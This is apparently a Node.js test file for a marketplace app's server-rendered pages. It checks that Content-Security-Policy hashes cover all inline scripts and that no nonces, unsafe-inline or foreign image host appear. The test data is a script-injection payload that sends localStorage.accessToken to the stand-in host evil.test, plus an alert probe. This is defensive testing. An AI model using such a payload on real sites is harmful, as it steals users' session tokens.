import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { test } from 'node:test';
import { servePages } from '#server/pages/ssr.ts';
import { openMarket } from './market.ts';
import { aProductOf } from './products.ts';
import { openSecondServer } from './second-server.ts';

const market = await openMarket();
const { publicUrl } = market.market;
const build = join(import.meta.dirname, '../build');
const entrance = await openSecondServer(market, {}, [
  (scope, admission) => servePages(scope, market.market, { publicUrl, build, ...admission }),
]);
const seller = await market.person('seller');
const INJECTED = '</script><script>fetch("https://evil.test/?" + localStorage.accessToken)</script>';

test('each page allows all of its own inline scripts, and shows neither their mark nor another host', async () => {
  const id = await aProductOf(seller, { disc: INJECTED, productName: 'Yamaha <script>alert(1)</script>' });
  for (const path of ['/', '/about', '/login', '/search', '/categories/YAMAHA', `/products/${id}`, '/nowhere']) {
    const answer = await fetch(entrance.origin + path);
    const html = await answer.text();
    const policy = answer.headers.get('content-security-policy') ?? '';
    const inline = [...html.matchAll(/<script(?![^>]*\ssrc=)(?![^>]*ld\+json)[^>]*>([\s\S]*?)<\/script>/g)];
    assert.ok(inline.length >= 3, path);
    for (const [, script = ''] of inline)
      assert.ok(
        policy.includes(createHash('sha256').update(script).digest('base64')),
        `${path}: ${script.slice(0, 80)}`,
      );
    assert.doesNotMatch(html, / nonce=/, path);
    assert.doesNotMatch(html, /pictures\.example\.test/, path);
    assert.match(policy, /img-src 'self' data: blob:;/);
    assert.doesNotMatch(policy, /nonce-|unsafe-inline/);
  }
});
